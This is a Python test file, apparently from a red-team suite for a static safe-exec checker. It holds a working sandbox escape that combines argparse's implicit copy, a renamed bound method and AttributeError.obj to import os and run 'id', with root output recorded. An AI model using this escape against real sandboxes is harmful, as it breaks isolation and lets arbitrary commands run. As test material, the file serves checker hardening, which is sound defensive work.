# expect: reject method
# line: 25
# verified: reaches its goal under plain python3 (3.11) in a temp dir (sixth static red team, ok_11_wraps_renamed_method_argparse_append_copy_reduce_getattr_private_import_os)
# Mechanism: implicit copy.copy inside argparse + a bound method's reduce. functools.wraps (decorator, one positional: allowed) gives a method of a unittest.TestLoader subclass the __name__ "_get_module_from_name" (a module-level def of the program so named). The bound method is the default= of an action='append' option; parsing '--x v' makes argparse's _copy_items call copy.copy(default) (the checker only limits copy.copy written by the program), whose reduce is getattr(self, __func__.__name__): TestLoader's private _get_module_from_name bound to our instance. items.append then fails on the method, which forwards the lookup to its function, so AttributeError.obj (readable) is the plain function TestLoader._get_module_from_name; called with (L(), 'os') it imports os. No dunder or private name is spelled or computed by the program.
# Goal: the os module as a value; run a process (id).
# Checker: build/safe-exec-check --rules rules FILE exits 0. Output under python3 3.11 (env -i, temp dir):
#   <module 'os' (frozen)>
#   uid=0(root) gid=0(root) groups=0(root)
import argparse
import functools
import unittest


def _get_module_from_name(name):
    return None


class L(unittest.TestLoader):
    @functools.wraps(_get_module_from_name)
    def pick(self, name):
        return None


p = argparse.ArgumentParser(prog="x")
p.add_argument("--x", action="append", default=L().pick)
try:
    p.parse_args(["--x", "v"])
except AttributeError as e:
    got = e.obj
    m = got(L(), "os")
    print(m)
    print(m.popen("id").read())
